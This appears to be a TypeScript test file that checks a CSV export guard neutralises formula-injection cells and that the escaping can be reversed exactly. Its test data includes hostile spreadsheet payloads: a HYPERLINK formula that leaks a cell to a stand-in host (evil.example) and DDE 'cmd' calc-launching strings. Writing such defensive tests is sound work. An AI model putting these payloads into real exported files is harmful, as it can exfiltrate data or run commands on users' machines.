/**
 * CSV injection: every cell a spreadsheet would run as a formula is neutralised, checked
 * by reading the written CSV back with Python's csv module (an independent reader), and
 * the guard is exactly reversible.
 */
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import {
  neutraliseCsvCell,
  restoreCsvCell,
  writeCsv,
} from '../../../../electron/core/util/csv-cell';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
];
const KEPT = ['-2', '+3.5', '1e5', '-0.25', 'plain text', 'a=b', '', '深圳市 =1'];

const pyRead = (csv: string): string[][] =>
  JSON.parse(
    execFileSync(
      'python3',
      ['-c', 'import csv,sys,json; print(json.dumps(list(csv.reader(sys.stdin, strict=True))))'],
      { input: csv, encoding: 'utf8' },
    ),
  ) as string[][];

describe('CSV cells', () => {
  it('no cell read back by Python csv begins with = + - @ tab or CR unless it is a plain number', () => {
    const rows = pyRead(writeCsv([['value', 'n'], ...[...HOSTILE, ...KEPT].map((v) => [v, 'x'])]));
    for (const [cell] of rows.slice(1)) {
      if (/^[+-]?[\d.]/.test(cell!) && !Number.isNaN(Number(cell))) continue;
      expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows.slice(1).map(([c]) => c)).toEqual([...HOSTILE.map((v) => `'${v}`), ...KEPT]);
  });

  it('restoreCsvCell gives back every original exactly', () => {
    for (const v of [...HOSTILE, ...KEPT, "'", "''=x", "'plain"])
      expect(restoreCsvCell(neutraliseCsvCell(v))).toBe(v);
  });
});
